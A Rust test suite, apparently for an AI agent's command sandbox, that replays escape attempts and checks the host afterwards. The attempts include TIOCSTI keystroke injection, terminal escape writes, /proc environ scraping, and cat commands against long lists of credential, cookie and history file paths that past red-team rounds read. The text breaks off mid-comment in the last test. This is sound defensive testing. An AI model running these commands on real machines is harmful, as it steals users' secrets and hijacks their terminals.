//! Escape tests for the sandboxed command against the host: terminal, sockets, capabilities, processes, secrets, git, trials.
//! Each test plays a hostile command for real (bash and python3 in the sandbox) and checks
//! the host afterwards. They run as root and, through `setpriv`, as an unprivileged user.

use std::ffi::OsString;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use baton::protocol::SandboxMode;
use baton::sandbox::{SandboxPolicy, Session, sandboxed_command};

use crate::support::outside;

/// The system python (a pyenv shim under /root is not the unprivileged user's).
fn python() -> &'static str {
    if Path::new("/usr/bin/python3").exists() {
        "/usr/bin/python3"
    } else {
        "python3"
    }
}

struct Fixture {
    _root: tempfile::TempDir,
    ws: PathBuf,
    outside: PathBuf,
}

/// A workspace with a `.git` and an outside folder holding `victim.txt`.
fn fixture() -> Fixture {
    let root = tempfile::Builder::new()
        .prefix("baton-host")
        .tempdir_in(outside::fixture_base())
        .expect("tempdir");
    let base = root.path().canonicalize().expect("canon");
    let ws = base.join("ws");
    let outside = base.join("outside");
    std::fs::create_dir_all(ws.join(".git/hooks")).expect("mkdir");
    std::fs::write(ws.join(".git/config"), "[core]\n").expect("config");
    std::fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
    std::fs::create_dir_all(&outside).expect("mkdir");
    std::fs::write(outside.join("victim.txt"), "original\n").expect("victim");
    Fixture {
        _root: root,
        ws,
        outside,
    }
}

/// Runs `bash -c script` sandboxed under `policy` (pipes, like the probe); (exit code, stdout+stderr).
fn run(policy: &SandboxPolicy, script: &str) -> (i32, String) {
    let argv = ["bash".to_string(), "-c".to_string(), script.to_string()];
    let (mut cmd, guard) =
        sandboxed_command(policy, &argv, Session::NewGroup).expect("sandbox prepares");
    let out = cmd
        .current_dir(&policy.workspace)
        .env("PY", python())
        .stdin(Stdio::null())
        .output()
        .expect("spawn");
    drop(guard);
    let mut text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.push_str(&String::from_utf8_lossy(&out.stderr));
    (out.status.code().unwrap_or(-1), text)
}

fn ws_policy(f: &Fixture) -> SandboxPolicy {
    SandboxPolicy::new(SandboxMode::WorkspaceWrite, &f.ws)
}

/// `baton sandbox -- bash -c script` with a clean environment plus `env`.
fn baton_sandbox(f: &Fixture, env: &[(&str, &OsString)], script: &str) -> Command {
    let mut c = baton_sandbox_with(f, &[], script);
    for (k, v) in env {
        c.env(k, v);
    }
    c
}

/// `baton sandbox FLAGS… -- bash -c script` with a clean environment, the home in the
/// fixture's base.
fn baton_sandbox_with(f: &Fixture, flags: &[&std::ffi::OsStr], script: &str) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_baton"));
    c.env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", f.ws.parent().expect("base").join("home"))
        .env("PY", python())
        .arg("sandbox")
        .args(flags)
        .args(["--", "bash", "-c", script])
        .current_dir(&f.ws);
    c
}

/// What `baton sandbox -- bash -c script` printed (stdout, then stderr; stdin closed).
fn sandbox_output(f: &Fixture, script: &str) -> String {
    let out = baton_sandbox(f, &[], script)
        .stdin(Stdio::null())
        .output()
        .expect("run baton sandbox");
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Writes `text` to `rel` under `home` (the fixture's home), making its folders.
fn plant(home: &Path, rel: &str, text: &str) {
    let path = home.join(rel);
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(&path, text).expect("write");
}

fn is_root() -> bool {
    // SAFETY: geteuid has no failure mode.
    unsafe { libc::geteuid() == 0 }
}

/// A PTY pair standing in for the user's terminal.
fn user_terminal() -> (std::fs::File, std::fs::File, PathBuf) {
    // SAFETY: posix_openpt/grantpt/unlockpt/ptsname_r on a descriptor we own.
    unsafe {
        let m = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC);
        assert!(m >= 0, "posix_openpt");
        assert_eq!(libc::grantpt(m), 0);
        assert_eq!(libc::unlockpt(m), 0);
        let mut name = [0 as libc::c_char; 128];
        assert_eq!(libc::ptsname_r(m, name.as_mut_ptr(), name.len()), 0);
        let path = std::ffi::CStr::from_ptr(name.as_ptr())
            .to_string_lossy()
            .into_owned();
        let master = <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(m);
        let slave = std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .custom_flags(libc::O_NOCTTY | libc::O_CLOEXEC)
            .open(&path)
            .expect("open slave");
        (master, slave, PathBuf::from(path))
    }
}

/// Whatever is waiting in `f` (non-blocking).
fn drain(f: &std::fs::File) -> String {
    // SAFETY: fcntl on a descriptor we own.
    unsafe {
        let fl = libc::fcntl(f.as_raw_fd(), libc::F_GETFL);
        libc::fcntl(f.as_raw_fd(), libc::F_SETFL, fl | libc::O_NONBLOCK);
    }
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        // SAFETY: read into a buffer we own.
        let n = unsafe { libc::read(f.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
        if n <= 0 {
            break;
        }
        out.extend_from_slice(&buf[..n as usize]);
    }
    String::from_utf8_lossy(&out).into_owned()
}

#[test]
fn command_cannot_write_to_the_users_terminal_found_through_dev_pts_or_proc() {
    let f = fixture();
    let (master, _slave, pts) = user_terminal();
    let (_, out) = run(
        &ws_policy(&f),
        &format!(
            "printf '\\033]0;pwned\\007' > {pts} 2>/dev/null && echo wrote-pts; \
             ls /dev/pts; \
             for p in /proc/[0-9]*; do for fd in $p/fd/*; do \
               case $(readlink $fd 2>/dev/null) in /dev/pts/*) printf '\\033]52;c;cHduZWQ=\\007' > $fd 2>/dev/null && echo wrote-$fd;; esac; \
             done; done; \
             printf x > /dev/tty 2>/dev/null && echo wrote-tty; echo done",
            pts = pts.display()
        ),
    );
    assert!(out.contains("done"), "{out}");
    assert!(!out.contains("wrote"), "reached a terminal: {out}");
    assert!(
        !out.lines().any(|l| l.trim().parse::<u32>().is_ok()),
        "the host's /dev/pts entries are visible: {out}"
    );
    assert_eq!(drain(&master), "", "bytes reached the user's terminal");
}

/// The CVE-2017-5226 pattern: a command pushes keystrokes into its controlling terminal
/// with `TIOCSTI`; the user's shell would read and run them after `baton sandbox` exits.
#[test]
fn tiocsti_through_baton_sandbox_cannot_push_keys_into_the_callers_terminal() {
    let f = fixture();
    let run = || {
        let (master, slave, _) = user_terminal();
        let mut cmd = baton_sandbox(
            &f,
            &[],
            "$PY -c '\nimport fcntl, termios, os\nfor path in (0, \"/dev/tty\"):\n  try:\n    fd = path if path == 0 else os.open(path, os.O_RDWR)\n    for c in b\"echo INJECTED\\n\": fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\n    print(\"pushed\", path)\n  except OSError as e:\n    print(\"refused\", path, e.errno)\n'",
        );
        for fd in 0..3 {
            let s = slave.try_clone().expect("dup");
            match fd {
                0 => cmd.stdin(s),
                1 => cmd.stdout(s),
                _ => cmd.stderr(s),
            };
        }
        // The caller is a shell with this terminal as its controlling terminal.
        // SAFETY: setsid/ioctl in the child before exec.
        unsafe {
            cmd.pre_exec(|| {
                libc::setsid();
                if libc::ioctl(0, libc::TIOCSCTTY, 0) != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let status = cmd.status().expect("run baton sandbox");
        let shown = drain(&master);
        // What the user's shell would read next from its terminal.
        let queued = drain(&slave);
        (status, shown, queued)
    };
    // A start the sandbox could not make (under the suite's load, a socket of another test
    // the world covers can vanish between baton's look and bubblewrap's mount, a documented
    // way for one command to fail) is tried again; the command's own answer never is.
    let mut attempt = run();
    for _ in 0..2 {
        if !attempt.1.contains("bwrap: Can't bind mount") {
            break;
        }
        attempt = run();
    }
    let (status, shown, queued) = attempt;
    assert!(status.success(), "{shown}");
    assert!(
        !queued.contains("INJECTED"),
        "keystrokes were pushed into the caller's terminal: {queued:?} (output: {shown})"
    );
    assert!(shown.contains("refused 0"), "{shown}");
}

#[test]
fn unix_sockets_and_socket_variables_outside_do_not_reach_the_command() {
    let f = fixture();
    // A tmux-like server socket under /tmp and an agent socket in the runtime dir.
    let tmp = tempfile::Builder::new()
        .prefix("baton-tmux")
        .tempdir_in("/tmp")
        .expect("tmp");
    let tmux_sock = tmp.path().join("default");
    let runtime = f.outside.join("runtime");
    std::fs::create_dir_all(&runtime).expect("runtime");
    std::fs::set_permissions(&runtime, std::fs::Permissions::from_mode(0o700)).expect("chmod");
    let agent_sock = runtime.join("agent.sock");
    let _l1 = std::os::unix::net::UnixListener::bind(&tmux_sock).expect("bind");
    let _l2 = std::os::unix::net::UnixListener::bind(&agent_sock).expect("bind");
    let tmux = OsString::from(format!("{},1234,0", tmux_sock.display()));
    let agent = agent_sock.clone().into_os_string();
    let rt = runtime.clone().into_os_string();
    let script = format!(
        "echo \"TMUX=$TMUX SSH=$SSH_AUTH_SOCK DBUS=$DBUS_SESSION_BUS_ADDRESS RT=$XDG_RUNTIME_DIR\"; \
         $PY -c '\nimport socket, sys\nfor p in sys.argv[1:]:\n  s = socket.socket(socket.AF_UNIX)\n  try:\n    s.connect(p); print(\"connected\", p)\n  except OSError as e:\n    print(\"refused\", e.errno)\n' {} {}",
        tmux_sock.display(),
        agent_sock.display()
    );
    let out = baton_sandbox(
        &f,
        &[
            ("TMUX", &tmux),
            ("TMUX_PANE", &OsString::from("%1")),
            ("SSH_AUTH_SOCK", &agent),
            ("XDG_RUNTIME_DIR", &rt),
            (
                "DBUS_SESSION_BUS_ADDRESS",
                &OsString::from(format!("unix:path={}", agent_sock.display())),
            ),
        ],
        &script,
    )
    .stdin(Stdio::null())
    .output()
    .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("TMUX= SSH= DBUS= RT="),
        "socket variables passed: {text}"
    );
    assert!(!text.contains("connected"), "reached a socket: {text}");
    assert_eq!(text.matches("refused").count(), 2, "{text}");
}

#[test]
fn root_capabilities_do_not_reach_the_host_clock_name_log_devices_or_mounts() {
    let f = fixture();
    let host_name = std::fs::read_to_string("/proc/sys/kernel/hostname").expect("hostname");
    let (_, out) = run(
        &ws_policy(&f),
        // Setting the clock and the name to what they are: harmless should the sandbox fail.
        "date -s \"@$(date +%s)\" >/dev/null 2>&1 && echo clock-set; \
         hostname \"$(cat /proc/sys/kernel/hostname)\" 2>/dev/null && echo name-set; \
         dmesg >/dev/null 2>&1 && echo log-read; \
         mknod disk b 8 0 2>/dev/null && echo mknod-block; \
         mknod kmsg c 1 11 2>/dev/null && echo mknod-char; \
         mkfifo fifo && echo fifo-ok; \
         $PY -c '\nimport ctypes, os\nl = ctypes.CDLL(None, use_errno=True)\nprint(\"fanotify\", l.syscall(300, 0, 0), ctypes.get_errno())\nclass A(ctypes.Structure):\n  _fields_ = [(\"set\", ctypes.c_uint64), (\"clr\", ctypes.c_uint64), (\"prop\", ctypes.c_uint64), (\"userns\", ctypes.c_uint64)]\na = A(0, 1, 0, 0)\nr = l.syscall(442, -100, b\".git/hooks\", 0x8000, ctypes.byref(a), 32)\nprint(\"mount_setattr\", r, ctypes.get_errno())\nprint(\"unshare\", l.unshare(0x10000000), ctypes.get_errno())\n'; \
         echo x > .git/hooks/pre-commit 2>/dev/null && echo hook-written; echo done",
    );
    assert!(out.contains("done"), "{out}");
    for bad in [
        "clock-set",
        "name-set",
        "log-read",
        "mknod-block",
        "mknod-char",
        "hook-written",
    ] {
        assert!(!out.contains(bad), "{bad}: {out}");
    }
    assert!(out.contains("fifo-ok"), "fifos must stay allowed: {out}");
    assert!(out.contains("fanotify -1"), "{out}");
    assert!(out.contains("mount_setattr -1"), "{out}");
    assert!(out.contains("unshare -1"), "{out}");
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/hostname").expect("hostname"),
        host_name
    );
    assert!(!f.ws.join(".git/hooks/pre-commit").exists());
    assert!(!f.ws.join("disk").exists() && !f.ws.join("kmsg").exists());
}

#[test]
fn metadata_of_outside_files_cannot_be_changed() {
    let f = fixture();
    let victim = f.outside.join("victim.txt");
    let before = std::fs::metadata(&victim).expect("meta");
    let dir_mode_before = std::fs::metadata(&f.outside).expect("meta").mode();
    let (_, out) = run(
        &ws_policy(&f),
        &format!(
            "v={v}; chmod 777 $v 2>/dev/null && echo chmod; chown 1:1 $v 2>/dev/null && echo chown; \
             touch -d 2001-01-01 $v 2>/dev/null && echo touch; \
             $PY -c 'import os,sys\ntry:\n  os.setxattr(sys.argv[1], \"user.pwned\", b\"1\"); print(\"xattr\")\nexcept OSError: pass' $v; \
             chmod 777 {o} 2>/dev/null && echo dirmode; echo done",
            v = victim.display(),
            o = f.outside.display()
        ),
    );
    assert!(out.contains("done"), "{out}");
    for bad in ["chmod", "chown", "touch", "xattr", "dirmode"] {
        assert!(!out.lines().any(|l| l == bad), "{bad} succeeded: {out}");
    }
    let after = std::fs::metadata(&victim).expect("meta");
    assert_eq!(before.mode(), after.mode());
    assert_eq!(before.uid(), after.uid());
    assert_eq!(before.mtime(), after.mtime());
    assert_eq!(
        std::fs::metadata(&f.outside).expect("meta").mode(),
        dir_mode_before
    );
}

fn limits_of(pid: u32) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/limits")).expect("limits")
}

fn nice_of(pid: u32) -> String {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).expect("stat");
    let after = stat.rsplit_once(')').expect("comm").1;
    after.split_whitespace().nth(16).unwrap_or("").to_string()
}

#[test]
fn prlimit_renice_and_taskset_cannot_reach_outside_processes_or_baton() {
    let f = fixture();
    let mut victim = Command::new("sleep").arg("30").spawn().expect("sleep");
    let vpid = victim.id();
    let me = std::process::id();
    let (limits, nice) = (limits_of(vpid), nice_of(vpid));
    // The attempts are harmless should the sandbox fail (limits and affinity set to what
    // they allow already), so a broken sandbox fails this test without breaking the others.
    let my_limits = limits_of(me);
    let (_, out) = run(
        &ws_policy(&f),
        &format!(
            "for p in {vpid} {me} $PPID; do \
               prlimit --pid $p --core=0:0 2>/dev/null && echo prlimit-$p; \
               prlimit --pid $p --nofile 2>/dev/null | grep -q NOFILE && echo nofile-$p; \
               renice -n 0 -p $p >/dev/null 2>&1 && echo renice-$p; \
               taskset -p ffffffffffffffff $p >/dev/null 2>&1 && echo taskset-$p; \
               kill -0 $p 2>/dev/null && echo sees-$p; \
             done; echo done"
        ),
    );
    assert!(out.contains("done"), "{out}");
    for pid in [vpid, me] {
        for what in ["prlimit", "nofile", "renice", "taskset", "sees"] {
            assert!(
                !out.contains(&format!("{what}-{pid}")),
                "{what} reached pid {pid}: {out}"
            );
        }
    }
    assert_eq!(limits_of(vpid), limits);
    assert_eq!(nice_of(vpid), nice);
    assert_eq!(limits_of(me), my_limits);
    let _ = victim.kill();
    let _ = victim.wait();
}

#[test]
fn secrets_in_the_environment_and_in_proc_environ_do_not_reach_commands() {
    let f = fixture();
    let secrets: &[(&str, &str)] = &[
        ("BATON_API_KEY", "sk-baton-s3cret"),
        ("DATABASE_URL", "postgres://app:db-s3cret@db/app"),
        ("GITHUB_PAT", "ghp_pat_s3cret"),
        ("NPM_AUTH", "npm-auth-s3cret"),
        ("HTTP_AUTHORIZATION", "Bearer bearer-s3cret"),
        ("AWS_SECRET_ACCESS_KEY", "aws-s3cret"),
        ("SENTRY_DSN", "https://dsn-s3cret@o1.ingest.sentry.io/1"),
        ("UPSTREAM", "https://bob:url-s3cret@example.com/repo.git"),
    ];
    let values: Vec<(&str, OsString)> = secrets
        .iter()
        .map(|(k, v)| (*k, OsString::from(v)))
        .collect();
    let env: Vec<(&str, &OsString)> = values.iter().map(|(k, v)| (*k, v)).collect();
    let out = baton_sandbox(
        &f,
        &env,
        "env; cat /proc/$PPID/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n'; \
         for e in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $e; done 2>/dev/null; echo done",
    )
    .stdin(Stdio::null())
    .output()
    .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("done") && text.contains("PATH="),
        "{:?}: {text}{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !text.contains("s3cret"),
        "a secret reached the command: {text}"
    );
}

#[test]
fn inherited_file_descriptors_do_not_reach_commands() {
    let f = fixture();
    let log = f.outside.join("log");
    let file = std::fs::File::create(&log).expect("log");
    let raw = file.as_raw_fd();
    let mut cmd = baton_sandbox(
        &f,
        &[],
        "echo pwned >&7 2>/dev/null && echo wrote-7; ls /proc/self/fd; echo done",
    );
    // `baton … 7>>~/outside/log`: fd 7 open, without close-on-exec, in baton.
    // SAFETY: dup2 in the child before exec.
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(raw, 7) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = cmd.stdin(Stdio::null()).output().expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("done"), "{text}");
    assert!(!text.contains("wrote-7"), "{text}");
    assert!(
        !text.lines().any(|l| l.trim() == "7"),
        "fd 7 is open in the command: {text}"
    );
    assert_eq!(std::fs::read_to_string(&log).expect("log"), "");
    drop(file);
}

#[test]
fn a_command_allocating_past_the_memory_bound_fails_instead_of_pushing_the_host_into_oom() {
    let f = fixture();
    let policy = ws_policy(&f).max_memory(Some(256 << 20));
    let (_, out) = run(
        &policy,
        "$PY -c '\nb = bytearray(1024 * 1024 * 1024)\nfor i in range(0, len(b), 4096): b[i] = 1\nprint(\"allocated\")\n'; echo done",
    );
    assert!(out.contains("done"), "{out}");
    assert!(
        !out.lines().any(|l| l == "allocated"),
        "1 GiB allocated under a 256 MiB bound: {out}"
    );
    // A default bound exists whatever the configuration says.
    let (_, guard) =
        sandboxed_command(&ws_policy(&f), &["true".into()], Session::NewGroup).expect("prepare");
    assert!(guard.memory_bound().is_some());
}

#[test]
fn the_users_secret_folders_other_homes_and_run_are_hidden() {
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    for (p, text) in [
        (".ssh/id_ed25519", "ssh-s3cret"),
        (".aws/credentials", "aws-s3cret"),
        (".config/baton/config.toml", "baton-s3cret"),
        (".git-credentials", "git-s3cret"),
        (".cargo/credentials.toml", "cargo-s3cret"),
    ] {
        plant(&home, p, text);
    }
    let made_name = format!("baton-made-inside-{}", std::process::id());
    let host_tmp = tempfile::Builder::new()
        .prefix("baton-hosttmp")
        .tempfile_in("/tmp")
        .expect("tmp");
    std::fs::write(host_tmp.path(), "tmp-s3cret").expect("write");
    let script = format!(
        "cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.config/baton/config.toml ~/.git-credentials \
         ~/.cargo/credentials.toml {t} 2>/dev/null; ls /run | wc -l; ls /root 2>/dev/null | head -1; \
         echo made > /tmp/{made}; echo done",
        t = host_tmp.path().display(),
        made = made_name
    );
    let out = baton_sandbox(&f, &[], &script)
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("done"), "{text}");
    assert!(!text.contains("s3cret"), "a secret was readable: {text}");
    assert!(
        text.lines().any(|l| l.trim() == "0"),
        "/run not empty: {text}"
    );
    assert!(
        !Path::new("/tmp").join(&made_name).exists(),
        "the sandbox's /tmp is the host's"
    );
    if !is_root() {
        assert!(!text.contains("baton"), "{text}");
    }
}

#[test]
fn credentials_of_other_agents_clouds_and_browsers_and_shell_history_are_hidden() {
    // Reads are free and the model sees what a command prints: every one of these holds a
    // key, a token or typed passwords, and each was readable next to the hidden ones.
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    let files = [
        ".codex/auth.json",
        ".claude/.credentials.json",
        ".cache/huggingface/token",
        ".huggingface/token",
        ".vault-token",
        ".terraform.d/credentials.tfrc.json",
        ".config/containers/auth.json",
        ".config/op/config",
        ".config/rclone/rclone.conf",
        ".config/glab-cli/config.yml",
        ".kaggle/kaggle.json",
        ".s3cfg",
        ".boto",
        ".oci/config",
        ".m2/settings.xml",
        ".gradle/gradle.properties",
        ".dockercfg",
        ".mozilla/firefox/logins.json",
        ".config/google-chrome/Default/Cookies",
        ".config/chromium/Default/Login Data",
        ".bash_history",
        ".zsh_history",
        ".python_history",
        ".psql_history",
        ".mysql_history",
        ".local/share/fish/fish_history",
    ];
    for p in files {
        plant(&home, p, &format!("s3cret-in {p}\n"));
    }
    let script = "for f in \"$@\"; do cat ~/\"$f\" 2>/dev/null; done; echo done";
    let mut cmd = baton_sandbox(&f, &[], script);
    cmd.arg("sh").args(files);
    let out = cmd.stdin(Stdio::null()).output().expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("done"), "{text}");
    let read: Vec<&str> = text.lines().filter(|l| l.contains("s3cret")).collect();
    assert!(read.is_empty(), "readable in the sandbox: {read:#?}");
}

#[test]
fn with_the_network_on_host_abstract_unix_sockets_stay_out_of_reach() {
    // `--network` shares the host's network namespace, and with it the abstract unix sockets
    // of the user's session (an X server's `@/tmp/.X11-unix/X0` takes keystrokes, a
    // container shim's takes commands): IPC of the host, not the network the user allowed.
    use std::os::linux::net::SocketAddrExt;
    let f = fixture();
    let name = format!("baton-escape-abstract-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("addr");
    let _listener = std::os::unix::net::UnixListener::bind_addr(&addr).expect("bind");
    let script = format!(
        "$PY -c '\nimport socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect(\"\\0{name}\"); print(\"connected\")\nexcept OSError as e:\n  print(\"refused\", e.errno)\n'"
    );
    let out = Command::new(env!("CARGO_BIN_EXE_baton"))
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", f.ws.parent().expect("base").join("home"))
        .env("PY", python())
        .args(["sandbox", "--network", "--", "bash", "-c", &script])
        .current_dir(&f.ws)
        .stdin(Stdio::null())
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("refused"),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !text.contains("connected"),
        "reached a host abstract socket: {text}"
    );
}

/// The 35 credential files the last red team read through the deny-list: other agents' keys,
/// package registries' and clouds' auth, histories, browsers of snap and Flatpak, editors'
/// state.
const CREDENTIALS_THE_DENY_LIST_MISSED: &[&str] = &[
    ".aider.conf.yml",
    // Round 36: beside git's config, named by it (`credential.helper = store --file …`,
    // `http.sslKey`, `user.signingKey`, `http.cookieFile`).
    ".config/git/store-work",
    ".config/git/client.key",
    ".config/git/signing_ed25519",
    ".config/git/gitcookies",
    ".bundle/config",
    ".cloudflared/cert.pem",
    ".composer/auth.json",
    ".config/composer/auth.json",
    ".config/Code/User/globalStorage/state.vscdb",
    ".config/Slack/Cookies",
    ".config/discord/Local_Storage",
    ".config/microsoft-edge/Default/Cookies",
    ".config/atuin/key",
    ".config/doctl/config.yaml",
    ".config/github-copilot/hosts.json",
    ".config/goose/config.yaml",
    ".config/hcloud/cli.toml",
    ".config/helm/registry/config.json",
    ".config/io.datasette.llm/keys.json",
    ".config/pip/pip.conf",
    ".config/sops/age/keys.txt",
    ".continue/config.json",
    ".databrickscfg",
    ".dbt/profiles.yml",
    ".env",
    ".fly/config.yml",
    ".gemini/oauth_creds.json",
    ".histfile",
    ".irb_history",
    ".local/share/nvim/shada/main.shada",
    ".local/share/opencode/auth.json",
    ".ollama/id_ed25519",
    ".sentryclirc",
    ".viminfo",
    ".wrangler/config/default.toml",
    ".yarnrc.yml",
    "snap/firefox/common/.mozilla/firefox/p/logins.json",
    ".var/app/org.mozilla.firefox/.mozilla/firefox/p/cookies.sqlite",
];

/// Credentials inside toolchain folders the home view shows (the second red team read them).
const CREDENTIALS_INSIDE_TOOLCHAINS: &[&str] = &[
    ".npm-global/etc/npmrc",
    ".nvm/versions/node/v20.11.0/etc/npmrc",
    ".rye/credentials",
    ".local/share/uv/credentials/credentials.toml",
    ".cabal/config",
    ".julia/servers/pkg.julialang.org/auth.toml",
    ".cargo/config.toml",
    ".cargo/config",
    ".gradle/init.gradle",
    // Seventeenth red team: copies beside them, a REPL history, a certificate store's keys.
    ".cargo/credentials.toml.bak",
    ".cargo/credentials.toml~",
    ".cargo/config.toml.orig",
    ".m2/settings.xml~",
    ".m2/.settings.xml.swp",
    ".m2/settings.xml.old",
    ".gradle/gradle.properties.bak",
    ".julia/logs/repl_history.jl",
    ".dotnet/corefx/cryptography/x509stores/my/key.pfx",
];

#[test]
fn tokens_in_the_users_git_configs_do_not_reach_commands() {
    // Red team round 22 (medium): `~/.gitconfig` was shown whole, and with it the tokens kept
    // in `url.<base>.insteadOf` and `http.extraHeader`, which baton strips from
    // `GIT_CONFIG_PARAMETERS`.
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    let global = "[user]\n\tname = Visible Identity\n\
                  [url \"https://x-access-token:s3cret-one@github.com/\"]\n\tinsteadOf = https://github.com/\n\
                  [http \"https://example.com/\"]\n\textraHeader = AUTHORIZATION: basic s3cret-two\n\
                  [include]\n\tpath = ~/.config/git/work.inc\n\
                  [alias]\n\tst = status\n";
    plant(&home, ".gitconfig", global);
    plant(
        &home,
        ".config/git/config",
        "[http] extraheader = Authorization: Bearer s3cret-three\n\tsslVerify = true\n",
    );
    plant(
        &home,
        ".config/git/work.inc",
        "[url \"https://oauth2:s3cret-four@gitlab.com/\"] insteadOf = https://gitlab.com/\n\
         [user]\n\temail = visible@example.com\n",
    );
    let script = "cat ~/.gitconfig ~/.config/git/config ~/.config/git/work.inc; \
                  git config --includes --list; echo end";
    let out = sandbox_output(&f, script);
    assert!(out.contains("end"), "{out}");
    assert!(
        !out.contains("s3cret"),
        "a token reached the command: {out}"
    );
    for kept in [
        "user.name=Visible Identity",
        "alias.st=status",
        "http.sslverify=true",
        "user.email=visible@example.com",
    ] {
        assert!(out.contains(kept), "{kept} is gone: {out}");
    }
    assert_eq!(
        std::fs::read_to_string(home.join(".gitconfig")).expect("global"),
        global,
        "the user's own file is left as it was"
    );
}

#[test]
fn the_home_shows_only_toolchains_and_what_the_user_names() {
    // A deny-list of credential files is never complete: the home is an allow-list view.
    let f = fixture();
    let home = f.ws.parent().expect("base").join("home");
    let put = |p: &str, text: &str| plant(&home, p, text);
    for p in CREDENTIALS_THE_DENY_LIST_MISSED
        .iter()
        .chain(CREDENTIALS_INSIDE_TOOLCHAINS)
    {
        put(p, &format!("s3cret-in {p}\n"));
    }
    put(
        ".nvm/versions/node/v20.11.0/bin/node-marker",
        "toolchain-visible\n",
    );
    put("notes/plans.txt", "s3cret-in notes\n");
    put(".cargo/bin/cargo-hello", "toolchain-visible\n");
    put(".cargo/credentials.toml", "s3cret-in cargo credentials\n");
    put(".gitconfig", "[user]\n\tname = Visible Identity\n");
    put(".aws/credentials", "s3cret-in aws\n");
    // A second workspace inside the home: writable, with the home around it read-only.
    let project = home.join("src/project");
    std::fs::create_dir_all(&project).expect("mkdir");
    let script = "for f in \"$@\"; do cat ~/\"$f\" 2>/dev/null; done; \
                  cat ~/notes/plans.txt ~/.cargo/bin/cargo-hello ~/.cargo/credentials.toml \
                  ~/.aws/credentials 2>/dev/null; git config --global user.name; \
                  touch ~/planted 2>/dev/null && echo home-writable; \
                  echo made > made.txt && echo workspace-writable";
    let mut cmd = baton_sandbox(&f, &[], script);
    cmd.arg("sh")
        .args(CREDENTIALS_THE_DENY_LIST_MISSED)
        .args(CREDENTIALS_INSIDE_TOOLCHAINS)
        .arg(".nvm/versions/node/v20.11.0/bin/node-marker")
        .current_dir(&project);
    let out = cmd.stdin(Stdio::null()).output().expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    let read: Vec<&str> = text.lines().filter(|l| l.contains("s3cret")).collect();
    assert!(read.is_empty(), "readable in the sandbox: {read:#?}");
    assert!(text.contains("toolchain-visible"), "{text}");
    assert!(text.contains("Visible Identity"), "{text}");
    assert!(!text.contains("home-writable"), "{text}");
    assert!(!home.join("planted").exists());
    assert!(text.contains("workspace-writable"), "{text}");
    assert_eq!(
        std::fs::read_to_string(project.join("made.txt")).expect("made"),
        "made\n"
    );

    // What the user names is shown: a folder, and a credential only where named itself.
    let script = "cat ~/notes/plans.txt ~/.aws/credentials ~/.gemini/oauth_creds.json \
                  2>/dev/null; echo done";
    let mut named = baton_sandbox_with(
        &f,
        &[
            "--read".as_ref(),
            home.join("notes").as_os_str(),
            "--read".as_ref(),
            home.join(".aws").as_os_str(),
        ],
        script,
    );
    named.current_dir(&project);
    let out = named.stdin(Stdio::null()).output().expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("s3cret-in notes"), "{text}");
    assert!(text.contains("s3cret-in aws"), "{text}");
    assert!(!text.contains("gemini"), "{text}");

    // Round 33: naming a folder that holds credentials (`--read ~/.config`) shows none of
    // them: Copilot's token, Edge's cookies, pip's and doctl's settings.
    let script = "cat ~/.config/github-copilot/hosts.json ~/.config/microsoft-edge/Default/Cookies \
                  ~/.config/pip/pip.conf ~/.config/doctl/config.yaml ~/.config/hcloud/cli.toml \
                  2>/dev/null; echo done";
    let config = home.join(".config");
    let mut named = baton_sandbox_with(&f, &["--read".as_ref(), config.as_os_str()], script);
    named.current_dir(&project);
    let out = named.stdin(Stdio::null()).output().expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("done"), "{text}");
    assert!(!text.contains("s3cret"), "{text}");
}

#[test]
fn pathname_unix_sockets_of_the_host_are_masked_unless_allowed() {
    // A daemon listening on a socket in a folder the sandbox shows (say a database under
    // /var/lib, or a dev server's socket elsewhere on disk): a command connecting to it
